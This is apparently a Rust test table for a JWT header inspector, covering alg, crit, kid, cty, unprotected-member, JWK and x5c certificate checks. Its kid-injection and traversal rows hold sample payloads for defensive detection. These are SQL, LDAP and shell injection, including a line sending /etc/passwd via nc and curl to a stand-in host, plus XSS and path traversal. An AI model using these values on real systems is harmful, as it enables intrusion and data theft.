//! HDR: the JOSE header. Members that need no more than themselves have their table in `inspect::tests`.

use super::{CLAIMS, Table, b64, body, head, p256, plain, secret, signed, token};
use crate::encoding::base64url;
use crate::inspect::report::Policy;
use crate::jose::algorithm::JwsAlgorithm;
use crate::jose::key::{Key, Material};

/// A token in the flattened serialisation.
fn flattened(protected: &str, unprotected: &str) -> String {
    format!(
        r#"{{"protected":"{}","header":{unprotected},"payload":"{}","signature":"{}"}}"#,
        b64(protected),
        b64(CLAIMS),
        base64url::encode(&[7; 64])
    )
}

pub(super) fn rows() -> Table {
    let mut table = Table::default();
    let t = plain();
    algorithms(&mut table, &t);
    critical(&mut table, &t);
    kids(&mut table, &t);
    layers(&mut table, &t);
    unprotected(&mut table, &t);
    keys(&mut table, &t);
    table
}

fn algorithms(table: &mut Table, t: &str) {
    let alg = |value: &str| head(&format!(r#"{{"alg":{value}}}"#));
    table.of("hdr.alg-missing", &[&head(r#"{"typ":"JWT"}"#), &alg(r#""""#), &head("{}")], &[t, &alg("5")]);
    table.of("hdr.alg-type", &[&alg("5"), &alg("null"), &alg(r#"["HS256"]"#)], &[t, &alg(r#""5""#)]);
    table.of(
        "hdr.alg-none",
        &[&alg(r#""none""#), &alg(r#""None""#), &format!("{}.e30.", b64(r#"{"alg":"none"}"#))],
        &[t, &alg(r#""nonesuch""#), &head(r#"{"alg":"ES256","kid":"none"}"#)],
    );
    table.of(
        "hdr.alg-none-variant",
        &[&alg(r#""NONE""#), &alg(r#"" none""#), &alg(r#""nonE""#)],
        &[t, &alg(r#""none""#), &alg(r#""nonesuch""#)],
    );
    table.of(
        "hdr.alg-case",
        &[&alg(r#""hs256""#), &alg(r#""Es256""#), &alg(r#""EDDSA""#)],
        &[t, &alg(r#""HS256""#), &alg(r#""xx256""#)],
    );
    table.of(
        "hdr.alg-unknown",
        &[
            &alg(r#""HS257""#),
            &alg(r#""ES521""#),
            &alg(r#""http://www.w3.org/2001/04/xmldsig-more#rsa-sha256""#),
        ],
        &[t, &alg(r#""hs256""#), &alg(r#""PS512""#), &alg(r#""ML-DSA-65""#)],
    );
    table.of(
        "hdr.jwe-alg-in-jws",
        &[&alg(r#""RSA-OAEP""#), &alg(r#""dir""#), &head(r#"{"alg":"HS256","enc":"A128GCM"}"#)],
        &[t, &alg(r#""HS256""#), &format!("{}..AAAA.AAAA.AAAA", b64(r#"{"alg":"dir","enc":"A128GCM"}"#))],
    );
    table.of(
        "hdr.alg-polymorphic",
        &[&alg(r#""EdDSA""#), &head(r#"{"typ":"JWT","alg":"EdDSA"}"#)],
        &[t, &alg(r#""Ed25519""#), &alg(r#""Ed448""#)],
    );
    table.of(
        "hdr.alg-pq",
        &[&alg(r#""ML-DSA-44""#), &alg(r#""ML-DSA-87""#)],
        &[t, &alg(r#""ML-DSA-45""#), &alg(r#""Ed25519""#)],
    );
}

fn critical(table: &mut Table, t: &str) {
    table.headers(
        "hdr.crit-unknown",
        &[
            r#""crit":["exp"],"exp":1"#,
            r#""crit":["b64","x"],"b64":true,"x":1"#,
            r#""crit":["http://x"],"http://x":1"#,
        ],
        &[r#""crit":["b64"],"b64":true"#, r#""exp":1"#, r#""crit":["alg"]"#],
    );
    table.headers(
        "hdr.crit-malformed",
        &[
            r#""crit":[]"#,
            r#""crit":"b64""#,
            r#""crit":["b64"]"#,
            r#""crit":["b64","b64"],"b64":true"#,
            r#""crit":["alg"]"#,
            r#""crit":[1]"#,
        ],
        &[r#""crit":["b64"],"b64":true"#, r#""crit":["x"],"x":1"#, r#""kid":"crit""#],
    );
    table.of(
        "hdr.crit-malformed",
        &[&flattened(r#"{"alg":"ES256"}"#, r#"{"crit":["x"],"x":1}"#)],
        &[&flattened(r#"{"alg":"ES256"}"#, r#"{"kid":"a"}"#)],
    );
    table.headers(
        "hdr.b64-false",
        &[r#""b64":false,"crit":["b64"]"#, r#""crit":["b64"],"b64":false"#],
        &[r#""b64":true,"crit":["b64"]"#, r#""b64":false"#, r#""b64":"false""#],
    );
    table.headers(
        "hdr.b64-not-crit",
        &[r#""b64":false"#, r#""b64":false,"crit":["x"],"x":1"#],
        &[r#""b64":false,"crit":["b64"]"#, r#""b64":true"#],
    );
    table.of(
        "hdr.unprotected-alg",
        &[
            &flattened(r#"{"typ":"JWT"}"#, r#"{"alg":"ES256"}"#),
            &flattened(r#"{"alg":"ES256"}"#, r#"{"kid":"a"}"#),
            &flattened(r#"{"alg":"ES256"}"#, r#"{"jku":"https://a.example"}"#),
            &flattened(r#"{"alg":"ES256"}"#, r#"{"made-up":1}"#),
        ],
        &[t, &flattened(r#"{"alg":"ES256"}"#, "{}"), &flattened(r#"{"alg":"ES256"}"#, r#"{"typ":"JWT"}"#)],
    );
    table.of(
        "hdr.not-disjoint",
        &[
            &flattened(r#"{"alg":"ES256"}"#, r#"{"alg":"ES256"}"#),
            &flattened(r#"{"alg":"ES256","kid":"a"}"#, r#"{"kid":"b"}"#),
        ],
        &[t, &flattened(r#"{"alg":"ES256"}"#, r#"{"kid":"a"}"#), &flattened(r#"{"alg":"ES256"}"#, "{}")],
    );
}

fn kids(table: &mut Table, t: &str) {
    let kid = |value: &str| head(&format!(r#"{{"alg":"ES256","kid":{value}}}"#));
    table.keyed(
        "hdr.kid-missing",
        &[p256(1), p256(2)],
        &[t, &head(r#"{"alg":"ES256","typ":"kid"}"#)],
        &[&kid(r#""a""#), &kid(r#""""#), &kid("7")],
    );
    table.of(
        "hdr.kid-type",
        &[&kid("7"), &kid("null"), &kid(r#"{"a":1}"#)],
        &[t, &kid(r#""7""#), &kid(r#""""#)],
    );
    table.of(
        "hdr.kid-traversal",
        &[
            &kid(r#""../../dev/null""#),
            &kid(r#""/proc/sys/kernel/randomize_va_space""#),
            &kid(r#""C:\\keys\\a.pem""#),
            &kid(r#""..%2f..%2fetc%2fpasswd""#),
            &kid(r#""file:///etc/passwd""#),
        ],
        &[
            &kid(r#""a/b/c""#),
            &kid(r#""2026..01""#),
            &kid(r#""projects/p/locations/l/keyRings/r/cryptoKeys/k/cryptoKeyVersions/1""#),
            &kid(r#""arn:aws:kms:eu-west-1:111122223333:key/1234abcd""#),
            &kid(r#""home/key""#),
        ],
    );
    table.of(
        "hdr.kid-injection",
        &[
            &kid(r#""x' UNION SELECT 'k'--""#),
            &kid(r#""1; DROP TABLE keys""#),
            &kid(r#""*)(uid=*))(|(uid=*""#),
            &kid(r#""key; cat /etc/passwd | nc a.example 1""#),
            &kid(r#""$(curl a.example)""#),
            &kid(r#""<script>alert(1)</script>""#),
        ],
        &[
            &kid(r#""O'Brien's key""#),
            &kid(r#""key-2026;v=1""#),
            &kid(r#""a=b&c=d""#),
            &kid(r#""selection-2026""#),
            &kid(r#""kid--1""#),
            &kid(r#""trade union committee""#),
            &kid(r#""+/=abc==""#),
        ],
    );
    table.of(
        "hdr.kid-url",
        &[&kid(r#""https://a.example/key""#), &kid(r#""ldap://a.example""#)],
        &[t, &kid(r#""did:example:123#key-1""#), &kid(r#""urn:a:b""#), &kid(r#""a.example/key""#)],
    );
    let long = |chars: usize| kid(&format!("\"{}\"", "k".repeat(chars)));
    table.of("hdr.kid-long", &[&long(257), &long(4_000)], &[&long(256), &long(43), t]);
}

fn layers(table: &mut Table, t: &str) {
    let around = |cty: &str, payload: &str| token(&format!(r#"{{"alg":"ES256"{cty}}}"#), payload);
    table.of(
        "hdr.cty-nested",
        &[
            &around(r#","cty":"JWT""#, t),
            &around(r#","cty":"application/jwt""#, t),
            &around(r#","cty":"jwt""#, t),
        ],
        &[t, &around("", t), &around(r#","cty":"JWT""#, CLAIMS)],
    );
    table.of(
        "hdr.cty-missing-nested",
        &[&around("", t), &around(r#","cty":"text/plain""#, t)],
        &[t, &around(r#","cty":"JWT""#, t), &around("", "eyes.on.me"), &around("", "1.2.3")],
    );
    let (of_header, of_signature) = (b64(r#"{"alg":"ES256"}"#), base64url::encode(&[7; 64]));
    let members = format!(r#""protected":"{of_header}","signature":"{of_signature}""#);
    let flattened = format!(r#"{{"payload":"{}",{members}}}"#, b64(CLAIMS));
    let general = format!(r#"{{"payload":"{}","signatures":[{{{members}}}]}}"#, b64(CLAIMS));
    table.of(
        "hdr.cty-nested",
        &[&around(r#","cty":"JOSE+JSON""#, &flattened), &around(r#","cty":"jose+json""#, &general)],
        &[&around("", r#"{"payload":"x","signature":"y"}"#), &around("", r#"{"ciphertext":"x","iv":"y"}"#)],
    );
    table.of(
        "claim.iss-missing",
        &[&around("", r#"{"payload":"x","signature":"y"}"#)],
        &[&around("", &flattened), &around("", &general)],
    );
    let with_disclosures = format!("{}~", body(r#"{"iss":"a","_sd_alg":"sha-256"}"#));
    table.of(
        "hdr.cty-nested",
        &[&around(r#","cty":"dc+sd-jwt""#, &with_disclosures)],
        &[&around(r#","cty":"JWT""#, "eyes.on.me")],
    );
    table.of(
        "hdr.cty-missing-nested",
        &[&around("", &with_disclosures)],
        &[
            &around(r#","cty":"dc+sd-jwt""#, &with_disclosures),
            &around(r#","cty":"sd-jwt""#, &with_disclosures),
        ],
    );
}

/// Parameters outside the signature's protection: what standards know, and what nobody does.
fn unprotected(table: &mut Table, t: &str) {
    let beside = |unprotected: &str| flattened(r#"{"alg":"ES256"}"#, unprotected);
    table.of(
        "hdr.unprotected-alg",
        &[
            &beside(r#"{"own":1}"#),
            &beside(r#"{"Nonce":"n"}"#),
            &beside(r#"{"kid":"a"}"#),
            &beside(r#"{"nonce":"n","own":1}"#),
            // RFC 7797 §3: it must be protected, whatever it says.
            &beside(r#"{"b64":true}"#),
            // RFC 8555 §6.4 and §6.5.2: and so must these.
            &beside(r#"{"nonce":"n"}"#),
            &beside(r#"{"url":"https://a.example/x"}"#),
        ],
        &[
            &beside("{}"),
            &beside(r#"{"iss":"https://i.example","ppt":"shaken"}"#),
            &beside(r#"{"client_id":"c","jwt":"x","trust_chain":[]}"#),
            &beside(r#"{"typ":"JWT","disclosures":[]}"#),
            t,
        ],
    );
}

fn keys(table: &mut Table, t: &str) {
    let key = p256(1);
    let Material::Ec(ec) = &key.material else { return };
    let (x, y) = (base64url::encode(ec.x()), base64url::encode(ec.y()));
    let public = format!(r#""kty":"EC","crv":"P-256","x":"{x}","y":"{y}""#);
    let jwk = |members: &str| head(&format!(r#"{{"alg":"ES256","jwk":{{{members}}}}}"#));
    let secret_jwk = jwk(r#""kty":"oct","k":"AAAA""#);
    let private = jwk(&format!(r#"{public},"d":"AQ""#));
    table.of("hdr.jwk-embedded", &[&jwk(&public), &secret_jwk], &[t, &head(r#"{"alg":"ES256","jwk":"x"}"#)]);
    table.of("hdr.jwk-private", &[&private, &jwk(r#""kty":"RSA","d":"AQ""#)], &[&jwk(&public), t]);
    table.of("hdr.jwk-symmetric", &[&secret_jwk, &jwk(r#""kty":"oct""#)], &[&jwk(&public), &private, t]);
    certificates(table);
}

/// The certificate of a key of our collection, and tokens that it goes with or not.
fn certificates(table: &mut Table) {
    use crate::jose::digest::Hash;
    let pem = include_str!("../../../tests/data/keys/rsa2048/cert.pem");
    let body: String = pem.lines().filter(|line| !line.starts_with("-----")).collect();
    let der = include_bytes!("../../../tests/data/keys/rsa2048/cert.der");
    let text = include_str!("../../../tests/data/keys/rsa2048/pkcs8.pem");
    let mut owner: Vec<Key> = crate::jose::read::read_keys(text.as_bytes(), "owner", None).unwrap().keys;
    let owner = owner.remove(0);
    let header = |more: &str| format!(r#"{{"alg":"RS256","typ":"JWT","x5c":["{body}"]{more}}}"#);
    let by_owner = |more: &str| signed(JwsAlgorithm::Rs256, &owner, &header(more), CLAIMS);
    let good = by_owner("");
    let forged = token(&header(""), CLAIMS);
    let by_another = signed(
        JwsAlgorithm::Hs256,
        &secret(&[1; 32]),
        &format!(r#"{{"alg":"HS256","x5c":["{body}"]}}"#),
        CLAIMS,
    );
    let t = plain();
    let hash = |name: &str, value: &str| by_owner(&format!(r#","{name}":"{value}""#));
    let right = Hash::Sha256.base64url(der);
    table.of("hdr.x5c-embedded", &[&good, &forged], &[&t, &head(r#"{"alg":"ES256","x5c":["AAAA"]}"#)]);
    table.of("hdr.x5c-mismatch", &[&forged, &by_another], &[&good, &t]);
    // What was signed is not there, or not as it was: nothing can be said of who signed it.
    let parts: Vec<&str> = good.split('.').collect();
    let (protected, payload, signature) = (parts[0], parts[1], parts[2]);
    let detached = format!("{protected}..{signature}");
    let damaged = format!("{protected}.{payload}*.{signature}");
    let cut = format!("{protected}.{payload}.{}", &signature[..signature.len() - 1]);
    let blanks = format!("{protected}.{}\n{}.{signature}", &payload[..9], &payload[9..]);
    let joined = format!("{good}{good}");
    let abbreviated = format!("{protected}.{}….{signature}", &payload[..9]);
    let serialised = |payload: &str| {
        format!(r#"{{"payload":"{payload}","protected":"{protected}","signature":"{signature}"}}"#)
    };
    let mixed = serialised(payload).replace('}', r#","signatures":[]}"#);
    table.of(
        "hdr.x5c-mismatch",
        &[&serialised("e30"), &forged],
        &[&detached, &damaged, &cut, &blanks, &joined, &abbreviated, &serialised(payload), &mixed],
    );
    let with = |content: &str| Policy { detached: Some(content.as_bytes().into()), ..Policy::default() };
    table.judged("hdr.x5c-mismatch", (&[], &with(CLAIMS)), &[&forged], &[&detached, &good]);
    table.judged("hdr.x5c-mismatch", (&[], &with("{}")), &[&detached], &[&good]);
    table.of(
        "hdr.x5t-mismatch",
        &[&hash("x5t#S256", &b64("wrong")), &hash("x5t", &right), &hash("x5t#S256", "")],
        &[&good, &hash("x5t#S256", &right), &head(&format!(r#"{{"alg":"ES256","x5t#S256":"{right}"}}"#))],
    );
}
